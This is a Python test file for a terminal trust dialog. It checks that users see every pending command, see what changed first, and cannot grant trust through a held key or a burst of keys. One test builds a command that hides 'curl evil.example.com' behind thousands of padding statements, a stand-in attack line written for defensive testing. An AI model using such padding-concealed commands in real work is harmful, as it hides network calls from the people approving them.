"""The dialog of trust: all of the list is shown, what changed first, and only a key of its own is a yes."""

from __future__ import annotations

from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from pathlib import Path

import pytest

from rollout_tui.run.subjects.observations_acts import Observe
from rollout_tui.trust import Asks, Difference
from rollout_tui.tui.dialogs.trust import TrustForm
from rollout_tui.tui.quiet_time import SECONDS, QuietTime
from tests.cli.probed import Probed
from tests.probes.server import Server, reply
from tests.tui.hostile import Drawn
from tests.tui.payloads import PAYLOADS
from tests.tui.stage import BOB, Show, Staged
from tests.tui.test_tui_held_keys import Keyboard

COMMAND = f"command ./ci-green 2.4.0 · in /srv/shop · given CI_TOKEN · ./ci-green is sha256:{'ab' * 32}"
BEFORE = COMMAND.replace("ab", "cd")
HEALTH = "http https://shop.example.com/health"
MANY = tuple(f"http https://shop.example.com/{number}" for number in range(40))


class Asked:
    """The dialog over a run, and what it gave."""

    def __init__(self, show: Show) -> None:
        self.show, self.given = show, list[bool | None]()

    @property
    def is_open(self) -> bool:
        return isinstance(self.show.screen, TrustForm)

    async def to(self, key: str) -> None:
        """Go to an end of the list, which is scrolled to once it was drawn."""
        await self.show.press(key)
        scroll = self.show.screen.query_one("#asks")
        while scroll.scroll_y != (scroll.max_scroll_y if key == "end" else 0):
            await self.show.pilot.pause(0.01)
        await self.show.settle()


@asynccontextmanager
async def asked(
    staged: Staged,
    asks: Asks,
    difference: Difference | None = None,
    problem: str = "",
    size: tuple[int, int] = (80, 24),
    quiet: float = 0,
) -> AsyncIterator[Asked]:
    async with staged.shown(size, quiet) as show:
        dialog = Asked(show)
        show.app.animation_level = "none"
        show.app.push_screen(TrustForm(asks, difference, problem), dialog.given.append)
        await show.settle()
        yield dialog


async def test_it_shows_what_would_run_and_y_trusts_it(staged: Staged) -> None:
    async with asked(staged, (COMMAND, HEALTH)) as dialog:
        text = dialog.show.text()
        for each in ("command ./ci-green 2.4.0", "in /srv/shop · given CI_TOKEN", "sha256:abababababab…", HEALTH):
            assert each in text
        assert "Nothing of this plan" in text
        await dialog.show.press("y")
        assert (dialog.given, dialog.is_open) == ([True], False)


@pytest.mark.parametrize("key", ["escape", "n"])
async def test_it_is_left_without_trust(staged: Staged, key: str) -> None:
    async with asked(staged, (HEALTH,)) as dialog:
        await dialog.show.press("enter", "space", "Y", "m", "t", "p")
        assert (dialog.given, dialog.is_open) == ([], True)
        await dialog.show.press(key)
        assert (dialog.given, dialog.is_open) == ([False], False)
        assert len(dialog.show.journal()) == 1


async def test_what_changed_stands_first(staged: Staged) -> None:
    difference = Difference(added=(COMMAND,), removed=(BEFORE,))
    async with asked(staged, (*MANY, COMMAND), difference) as dialog:
        text = dialog.show.text()
        assert "Something else would run than what you trusted: 1 new, 1 gone" in text
        assert text.index("+ command") < text.index("- command") < text.index(MANY[0])
        assert "sha256:abababababab…" in text
        assert "sha256:cdcdcdcdcdcd…" in text


async def test_what_cant_be_read_of_the_trusted_is_said(staged: Staged) -> None:
    async with asked(staged, (HEALTH,), problem="trust.json is damaged: nothing in it is trusted") as dialog:
        assert "trust.json is damaged" in dialog.show.text()


async def test_why_no_signature_answers_it_is_said(staged: Staged) -> None:
    async with staged.shown() as show:
        show.app.push_screen(
            TrustForm((HEALTH,), None, unvouched="No signature answers this: its start is not signed.")
        )
        await show.settle()
        assert "No signature answers this: its start is not signed." in show.text()


@pytest.mark.parametrize("size", [(80, 24), (60, 20), (120, 40)])
async def test_a_long_list_is_shown_to_its_end_before_it_is_trusted(staged: Staged, size: tuple[int, int]) -> None:
    async with asked(staged, MANY, size=size) as dialog:
        seen: set[str] = set()
        presses = 0
        while not dialog.given:
            text = dialog.show.text()
            seen |= {each for each in MANY if f"{each} " in text}
            assert "esc: back" in text
            assert ("trust all of it" in text) is (len(seen) == len(MANY))
            await dialog.show.press("y")
            presses += 1
        assert (dialog.given, seen) == ([True], {*MANY})
        assert presses > 2


async def test_the_keys_that_scroll_show_the_end_too(staged: Staged) -> None:
    async with asked(staged, MANY) as dialog:
        await dialog.to("end")
        assert "trust all of it" in dialog.show.text()
        await dialog.to("home")
        assert "lines below" in dialog.show.text()
        await dialog.to("end")
        await dialog.show.press("y")
        assert dialog.given == [True]


async def test_a_line_is_shown_whole_however_long(staged: Staged) -> None:
    line = f"command sh -c '{'true; ' * 3000}curl evil.example.com'"
    async with asked(staged, (line,)) as dialog:
        assert "evil" not in dialog.show.text()
        await dialog.show.press("y")
        assert dialog.given == []
        await dialog.to("end")
        assert "evil.example.com" in dialog.show.text()


async def test_keys_of_a_burst_trust_nothing(staged: Staged) -> None:
    async with asked(staged, (HEALTH,)) as dialog:
        await dialog.show.burst(*"may I y")
        assert (dialog.given, dialog.is_open) == ([], True)


@pytest.mark.parametrize("key", ["enter", "m", "space"])
async def test_another_key_that_is_held_trusts_nothing(
    staged: Staged, monkeypatch: pytest.MonkeyPatch, key: str
) -> None:
    keyboard = Keyboard(monkeypatch)
    async with asked(staged, (HEALTH,), quiet=SECONDS) as dialog:
        dialog.show.app.quiet = QuietTime(SECONDS, keyboard.later)
        await keyboard.hold(dialog.show, key, 0.25)
        assert dialog.is_open
        await dialog.show.press("y")
        keyboard.wait(1)
        await dialog.show.settle()
        assert dialog.given == [True]


async def test_a_y_that_is_held_reads_on_and_trusts_nothing(staged: Staged, monkeypatch: pytest.MonkeyPatch) -> None:
    keyboard = Keyboard(monkeypatch)
    async with asked(staged, MANY, quiet=SECONDS) as dialog:
        dialog.show.app.quiet = QuietTime(SECONDS, keyboard.later)
        await keyboard.hold(dialog.show, "y", 0.25)
        assert (dialog.given, dialog.is_open) == ([], True)


def _chunks(texts: Sequence[str], size: int) -> list[tuple[str, ...]]:
    return [tuple(texts[at : at + size]) for at in range(0, len(texts), size)]


async def test_nothing_of_a_list_acts(staged: Staged) -> None:
    drawn = Drawn()
    for lines in _chunks(PAYLOADS, 16):
        difference = Difference(added=lines[:1], removed=lines[1:2])
        async with asked(staged, lines, difference, problem=lines[-1], size=(90, 56)) as dialog:
            drawn.look(dialog.show, repr(lines))
            await dialog.to("end")
            drawn.look(dialog.show, repr(lines))
    assert drawn.bad == []
    assert ("TrustForm", "asks") in drawn.places or ("TrustForm", "Label") in drawn.places


async def test_no_screen_of_a_run_runs_what_is_not_trusted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Not even what somebody else's looks left a gap in, which would be read from the source's history."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("PROM_TOKEN", "token")
    with Server(reply("ok")) as server:
        probed = Probed(tmp_path / "probed", server)
        staged = Staged(tmp_path, probed.file, plan_file=str(probed.file)).to_started("canary")
        staged.until(lambda run: run.phases["canary"].soak_from is not None)
        staged.do(Observe("error-rate", "pass", value=0.2), BOB).wait(hours=1)
        async with staged.shown() as show:
            for key in ("P", "L", "i", "p", "E", "m"):
                await show.press(key, "escape")
            for _ in range(3):
                staged.wait(minutes=5)
                await show.app.look()
            assert probed.marks == (0, 0)
